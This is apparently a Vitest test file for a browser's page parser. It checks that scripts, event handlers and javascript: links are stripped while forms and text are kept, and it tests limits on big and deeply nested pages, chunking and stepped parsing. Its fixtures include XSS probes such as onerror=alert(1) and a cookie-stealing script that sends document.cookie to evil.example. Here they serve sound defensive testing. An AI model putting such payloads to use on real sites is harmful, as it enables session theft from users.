// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import {
  chunkPage,
  formsOf,
  PAGE_LIMITS,
  pageText,
  parsePage,
  parsePageInSteps,
  ParseCancelled,
  type PageNode,
} from '../../src/browser/page';

describe('the page model', () => {
  it('keeps forms and text, and drops scripts, styles, handlers and dangerous links', () => {
    const page = parsePage(
      `<html><head><title> T </title><script>alert(1)</script></head><body>
       <p onclick="steal()">Hi <b>there</b><img src=x onerror=alert(1)></p>
       <style>p{}</style>
       <a href="javascript:alert(1)">bad</a> <a href="/myapp/logout/">out</a>
       <form action="/myapp/login/" method="post"><input name="username" placeholder="Username" onfocus="x()"><input type="password" name="password"><input type="file" name="f"><button>Login</button></form>
       </body></html>`,
      'text/html; charset=utf-8',
    );
    expect(page.title).toBe('T');
    const json = JSON.stringify(page.nodes);
    expect(json).not.toContain('alert');
    expect(json).not.toContain('steal');
    expect(json).not.toContain('onfocus');
    expect(json).not.toContain('img');
    expect(json).toContain('"href":"/myapp/logout/"');
    expect(json).not.toContain('javascript:');
    expect(formsOf(page.nodes)).toEqual([
      {
        action: '/myapp/login/',
        method: 'POST',
        fields: [
          { name: 'username', type: 'text', value: '', placeholder: 'Username' },
          { name: 'password', type: 'password', value: '', placeholder: '' },
          { name: 'f', type: 'text', value: '', placeholder: '' },
        ],
      },
    ]);
    expect(pageText(page.nodes)).toBe('Hi there bad out Login');
  });

  it('shows anything that is not HTML as text', () => {
    expect(parsePage('{"result": 1}', 'application/json')).toEqual({
      title: null,
      nodes: [{ type: 'text', text: '{"result": 1}' }],
      raw: true,
      scripts: [],
    });
  });

  it('keeps the text of each script beside the tree, as data, in document order', () => {
    const page = parsePage(
      `<html><head><script>var a = 1;</script><script src="/static/app.js"></script></head>
       <body><ul><li><script>new Image().src='http://evil.example/?c='+document.cookie</script></li></ul>
       <script type="text/template"><p>not code</p></script>
       <script type="module">fetch('/x')</script></body></html>`,
      'text/html',
    );
    expect(page.scripts).toEqual([
      { text: 'var a = 1;', src: '' },
      { text: '', src: '/static/app.js' },
      { text: "new Image().src='http://evil.example/?c='+document.cookie", src: '' },
      // type="text/template" is not JavaScript: no browser runs it, so it is not a script here.
      { text: "fetch('/x')", src: '' },
    ]);
    // Never in the render tree: the list item is empty.
    expect(JSON.stringify(page.nodes)).not.toContain('evil');
    expect(page.nodes).toContainEqual({
      type: 'element',
      tag: 'ul',
      attrs: {},
      children: [{ type: 'element', tag: 'li', attrs: {}, children: [] }],
    });
  });
});

describe('big pages (issue 14, item 4)', () => {
  const guestbook = (n: number) =>
    `<html><body><h1>Guestbook</h1><ul>\n<li>${'</li></ul><b>x</b>'.repeat(n)}</li>\n</ul>` +
    `<form name="guestbook" action="/myapp/guestbook/" method="POST"><input name="message">` +
    `<button>Sign</button></form></body></html>`;

  it('keeps a page below the limits whole', () => {
    const page = parsePage(guestbook(1000), 'text/html');
    expect(page.cut).toBeUndefined();
    expect(page.nodes.filter((n) => n.type === 'element' && n.tag === 'b')).toHaveLength(1000);
    expect(formsOf(page.nodes)).toHaveLength(1);
  });

  it('shows a page past the limit up to it, and says how big it was', () => {
    // The limit as the browser has it is 100,000 nodes; a small one keeps jsdom quick here.
    const limits = { nodes: 1000, depth: PAGE_LIMITS.depth };
    const page = parsePage(guestbook(1000), 'text/html', limits);
    expect(page.cut).toEqual({ nodes: expect.any(Number), limit: 1000 });
    expect(page.cut?.nodes).toBeGreaterThan(2000);
    let count = 0;
    const walk = (list: PageNode[]) => {
      for (const n of list) {
        count++;
        if (n.type === 'element') walk(n.children);
      }
    };
    walk(page.nodes);
    expect(count).toBe(1000);
  });

  it('flattens nesting past the depth limit, keeping the text', () => {
    const deep = '<div>'.repeat(1000) + 'bottom' + '</div>'.repeat(1000);
    const page = parsePage(`<html><body>${deep}</body></html>`, 'text/html');
    let depth = 0;
    let node: PageNode | undefined = page.nodes[0];
    while (node?.type === 'element') {
      depth++;
      node = node.children[0];
    }
    expect(depth).toBeLessThanOrEqual(PAGE_LIMITS.depth);
    expect(pageText(page.nodes)).toBe('bottom');
  });

  it('cuts a page into chunks in document order, copying what spans them', () => {
    const page = parsePage(
      '<html><body><form><ul>' +
        Array.from({ length: 7 }, (_, i) => `<li>${i}</li>`).join('') +
        '</ul><input name="m"></form></body></html>',
      'text/html',
    );
    const { chunks, formIndex, hasInputs } = chunkPage(page.nodes, 5);
    // The same text, in the same order, whatever the chunk size.
    expect(chunks.map((c) => pageText(c)).join(' ')).toBe(pageText(page.nodes));
    expect(chunks.length).toBeGreaterThan(2);
    // Every chunk starts inside the form: its copies answer as form 0.
    for (const c of chunks) expect(formIndex.get(c[0] as PageNode)).toBe(0);
    expect(hasInputs.at(-1)).toBe(true);
    expect(hasInputs[0]).toBe(false);
    // One chunk when it fits: the tree as it was.
    expect(chunkPage(page.nodes, 1000).chunks).toHaveLength(1);
  });

  it('never cuts inside a list item or a bold word: no element drawn twice', () => {
    const page = parsePage(
      '<html><body><ul>' + '<li>a <b>x</b> b</li>'.repeat(40) + '</ul></body></html>',
      'text/html',
    );
    const { chunks } = chunkPage(page.nodes, 7);
    expect(chunks.length).toBeGreaterThan(5);
    const count = (list: PageNode[], tag: string): number =>
      list.reduce(
        (n, x) => n + (x.type === 'element' ? (x.tag === tag ? 1 : 0) + count(x.children, tag) : 0),
        0,
      );
    expect(chunks.reduce((n, c) => n + count(c, 'li'), 0)).toBe(40);
    expect(chunks.reduce((n, c) => n + count(c, 'b'), 0)).toBe(40);
  });

  it('converts in steps into the same page as at once, pausing between steps', async () => {
    const html =
      '<html><head><title>G</title><script>document.cookie</script></head><body><h1>Guestbook</h1><ul>' +
      Array.from({ length: 3000 }, (_, i) => `<li>${i}</li></ul><b>x</b></li>\n`).join('') +
      '</ul><form action="/g/" method="post"><input name="message"><button>Sign</button></form></body></html>';
    let pauses = 0;
    const progress: number[] = [];
    const stepped = await parsePageInSteps(html, 'text/html', {
      pause: async () => {
        pauses++;
      },
      stepMs: 0,
      // One piece: jsdom's document.write parses each call on its own (Chromium's takes the
      // pieces as one stream; the e2e big-page spec checks the tree there).
      piece: html.length,
      onProgress: (p) => progress.push(p),
    });
    expect(stepped).toEqual(parsePage(html, 'text/html'));
    expect(pauses).toBeGreaterThan(10);
    expect(progress.at(-1)).toBe(1);
    expect(stepped.scripts).toEqual([{ text: 'document.cookie', src: '' }]);
  });

  it('stops parsing in steps when told, with ParseCancelled', async () => {
    let pauses = 0;
    const body = '<html><body>' + '<p>x</p>'.repeat(5000) + '</body></html>';
    await expect(
      parsePageInSteps(body, 'text/html', {
        pause: async () => {
          pauses++;
        },
        stepMs: 0,
        cancelled: () => pauses >= 2,
      }),
    ).rejects.toBeInstanceOf(ParseCancelled);
    expect(pauses).toBe(2);
  });
});
